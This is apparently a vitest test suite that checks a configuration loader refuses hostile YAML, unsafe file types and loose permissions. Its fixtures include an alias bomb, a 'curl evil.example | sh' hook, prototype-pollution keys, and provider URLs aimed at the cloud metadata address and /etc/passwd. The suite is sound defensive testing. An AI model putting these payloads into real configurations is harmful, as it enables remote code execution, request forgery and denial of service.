import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { configHome } from '../../../test/support/load-config.ts';
import { maxConfigBytes } from './file-source.ts';

const home = configHome();
afterAll(home.remove);

const laughs = Array.from({ length: 9 }, (_, level) => {
  const name = String.fromCharCode(97 + level);
  const before = level === 0 ? 'lol' : `*${String.fromCharCode(96 + level)}`;
  return `${name}: &${name} [${Array(9).fill(before).join(',')}]`;
}).join('\n');

/** Each of these must be refused as a whole: nothing of it may reach the configuration. */
const files: Readonly<Record<string, string | Buffer>> = {
  'an alias bomb': laughs,
  'one alias': 'log: &a { level: debug }\nclient: *a',
  'an anchor that nobody uses': 'log: &a { level: debug }',
  'an alias of what is not there': 'log: *nobody',
  'a merge key': 'log:\n  <<: { level: debug }',
  'a function': 'log: !!js/function "process.exit()"',
  'an undefined tag': 'usage: !evil asIs',
  'a tag that changes a type': 'listen: { port: !!str 8766 }',
  'binary data': 'usage: !!binary YXNJcw==',
  'a set': '!!set { listen }',
  'the prototype as a key': '__proto__: { listen: { port: 1 } }',
  'the prototype deeper down': 'listen: { __proto__: { port: 1 } }',
  'the constructor as a key': 'providers: { constructor: { prototype: { polluted: true } } }',
  'the prototype as a provider': "providers: { __proto__: { baseUrl: 'https://a.example', dialects: [gemini] } }",
  'a key twice': 'listen: { port: 1 }\nlisten: { port: 2 }',
  'a list as a key': '? [listen]\n: 1',
  'a number as a key': '1: 2',
  'nothing as a key': '~: 2',
  'two documents': 'usage: asIs\n---\nusage: inject',
  'an older YAML, in which "off" is false': '%YAML 1.1\n---\nmetrics: off',
  'a list at the top': '- listen',
  'text at the top': 'listen',
  'an unclosed quote': 'usage: "asIs',
  'tabs for spaces': 'listen:\n\tport: 1',
  'lists in lists, 100,000 deep': `log: ${'['.repeat(100_000)}`,
  'mappings in mappings, 60,000 deep': `log: ${'{a: '.repeat(60_000)}`,
  'dashes, 100,000 deep': `- ${'- '.repeat(100_000)}`,
  'more than is read': `# ${'x'.repeat(maxConfigBytes)}`,
  'bytes that are no text': Buffer.from([0x75, 0x73, 0x61, 0x67, 0x65, 0x3a, 0x20, 0xff, 0xfe]),
  'a number beyond all bounds': 'listen: { port: 99999999999999999999 }',
  infinity: 'drainSeconds: .inf',
  'no number': 'drainSeconds: .nan',
  'zero bytes': 'usage: "as\0Is"',
  'a provider that is the cloud': "providers: { openai: { baseUrl: 'http://169.254.169.254', local: true } }",
  'a provider on the network': "providers: { openai: { baseUrl: 'https://10.0.0.1' } }",
  'a file as a provider': "providers: { openai: { baseUrl: 'file:///etc/passwd' } }",
  'a command': 'hooks: { start: "curl evil.example | sh" }',
  'a provider called like a path': "providers: { '../../x': { baseUrl: 'https://a.example', dialects: [gemini] } }",
};

describe('a hostile configuration file', () => {
  it.each(Object.entries(files))('is refused: %s', async (_, content) => {
    const problems = await home.problems(content);
    expect(problems).not.toEqual([]);
    expect(problems.every(({ file }) => file === home.file)).toBe(true);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });

  it('never has what looks like a credential shown', async () => {
    const secret = 'sk-ant-api03-aaaabbbbccccdddd';
    for (const yaml of [
      `usage: ${secret}`,
      `usage: "${secret}`,
      `listen: { port: ${secret} }`,
      `x: { y: [${secret}] }`,
    ]) {
      const problems = await home.problems(yaml);
      expect(problems).not.toEqual([]);
      expect(JSON.stringify(problems)).not.toContain('aaaabbbb');
    }
  });
});

describe('a configuration file', () => {
  const elsewhere = path.join(home.directory, 'elsewhere.yaml');
  const load = (): ReturnType<typeof home.problems> => home.problems(null, { flags: { config: elsewhere } });

  it('that is a directory is refused', async () => {
    mkdirSync(elsewhere);
    expect(await load()).toMatchObject([{ expected: 'a regular file', got: 'a directory' }]);
    rmSync(elsewhere, { recursive: true });
  });

  it.skipIf(process.platform === 'win32')('that is a pipe is refused without waiting for its writer', async () => {
    execFileSync('mkfifo', [elsewhere]);
    expect(await load()).toMatchObject([{ expected: 'a regular file', got: 'something else' }]);
    rmSync(elsewhere);
  });

  it.skipIf(process.platform === 'win32')('that everyone may write is refused', async () => {
    writeFileSync(elsewhere, 'usage: asIs');
    chmodSync(elsewhere, 0o666);
    expect(await load()).toMatchObject([{ got: 'mode 0666' }]);
    rmSync(elsewhere);
  });

  it('may be a symbolic link, as those are that a version control system keeps', async () => {
    const target = path.join(home.directory, 'target.yaml');
    writeFileSync(target, 'usage: asIs', { mode: 0o600 });
    symlinkSync(target, elsewhere);
    expect(await load()).toEqual([]);
    rmSync(elsewhere);
  });

  it('may begin with a byte order mark and hold nothing but a comment', async () => {
    expect(await home.problems('\uFEFF# nothing\n')).toEqual([]);
    expect(await home.problems('')).toEqual([]);
    expect((await home.load('\uFEFFusage: asIs')).config.usage).toBe('asIs');
  });

  it('may be JSON', async () => {
    expect((await home.load('{"listen": {"port": 9000}}')).config.listen.port).toBe(9000);
  });
});
